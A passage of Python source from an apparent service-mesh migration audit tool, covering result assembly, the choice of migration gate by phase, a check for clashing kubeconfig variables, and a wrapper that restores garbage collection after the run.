        findings=frame, verdict=verdict, exit_code=exit_code_of(verdict),
        gate=phase if phase == "all" else gates[0].value, gates=[g.value for g in gates], gate_reason=reason,
        gate_verdicts=gate_verdicts, clusters=cluster_facts(inv, cr),
        summary={**summary_of(frame), **config_effects(frame)},
        inputs_sha256=sources.digest() or live_digest(sources),
        generated_at=now.isoformat(timespec="seconds").replace("+00:00", "Z"),
        exemptions=exemption_report, checks=[c.metadata() for c in selected], notes=notes, inventory=inv,
        options={"allow_unknown": allow_unknown, "strict": strict, "phase": phase, "origin": sources.origin,
                 "fail_on_new": fail_on_new},
        fleet=fleet_rows, cluster_verdicts={r["cluster"]: r["verdict"] for r in fleet_rows if r["verdict"]},
    )
    if baseline is not None:
        accepted = int(relieved.sum()) if relieved is not None else 0
        result.baseline_delta = since_baseline(result, baseline, fail_on_new=fail_on_new, accepted=accepted,
                                               verdict_without_baseline=verdict_without_baseline.value,
                                               source=baseline.get("_source"))
        if accepted:
            result.notes.append(f"--fail-on-new: {accepted} blocker finding(s) already in the baseline do not "
                                f"block; without the baseline the verdict is {verdict_without_baseline.value}")
    return result


def _gate_findings(collector: Collector, inv: Inventory, phase: str, gates: list[Gate]) -> list[Finding]:
    """A GO must be about the step the cluster is at: an unknown gate is UNKNOWN, a gate already past is a FAIL."""
    gate = gates[0]
    title = "Gate selection (--phase)"
    if phase == "auto" and inv.asm is None:
        collector.ensure([K.POD, *FACT_KINDS], "data-plane")  # what ASM leaves on a data plane
        marks = [f"{c.name}: {m}" for c in inv.data_planes for m in asm_marks(c)]
        if marks:
            shown = "; ".join(marks[:5]) + (f"; and {len(marks) - 5} more" if len(marks) > 5 else "")
            return [Finding(Status.UNKNOWN, "mesh", f"--phase auto chose {gate.value} without an ASM control plane "
                            f"to read the migration state from, but the data plane shows ASM at work ({shown}): the "
                            "migration may be under way, so the gate is unknown; "
                            "pass --asm-kubeconfig (or ASM_KUBECONFIG) or --phase GATE",
                            remediation="Give the ASM control plane (--asm-kubeconfig FILE or ASM_KUBECONFIG) so the "
                                        "migration state can be read, or name the gate with --phase GATE.",
                            severity=Severity.BLOCKER, gate=gate.value, check_id="gate-selection", title=title,
                            evidence={"asm_marks": marks[:50]}, code=GATE_UNKNOWN.code,
                            default_severity=GATE_UNKNOWN.severity)]
    if phase in (g.value for g in Gate):
        state = gate_already_past(inv, gate)
        if state:
            ahead = auto_gate(inv)[0].value
            return [Finding(Status.FAIL, "mesh", f"--phase {phase}: already past: ASMMigrateFromIstio/default is in "
                            f"state {state}, beyond the step this gate guards; its checks say nothing about the "
                            f"next step ({ahead})",
                            remediation=f"asm-audit run --phase {ahead}   # or --phase auto",
                            severity=Severity.BLOCKER, gate=gate.value, check_id="gate-selection", title=title,
                            evidence={"state": state, "next_gate": ahead}, code=GATE_PAST.code,
                            default_severity=GATE_PAST.severity)]
    return []


def _check_kubeconfig_variables(names: list[str]) -> None:
    """Commands name each cluster's kubeconfig by a variable made from its name: two clusters must not share one,
    or the commands for one would run against the other."""
    seen: dict[str, str] = {}
    for name in names:
        var = mesh.kubeconfig_env(name)
        if var in seen:
            raise UsageError(f"clusters {seen[var]!r} and {name!r} would share the variable {var} in the reports' "
                             "commands; rename one (--cluster NAME=..., the fleet file or the snapshot manifest)")
        seen[var] = name


@functools.wraps(_run_audit)
def run_audit(*args: Any, **kwargs: Any) -> AuditResult:
    try:
        return _run_audit(*args, **kwargs)
    finally:
        # The inventory was frozen while collecting (gc_paused): hand it back to the collector, also when the
        # audit failed, so a long-lived caller does not keep it forever.
        gc.unfreeze()
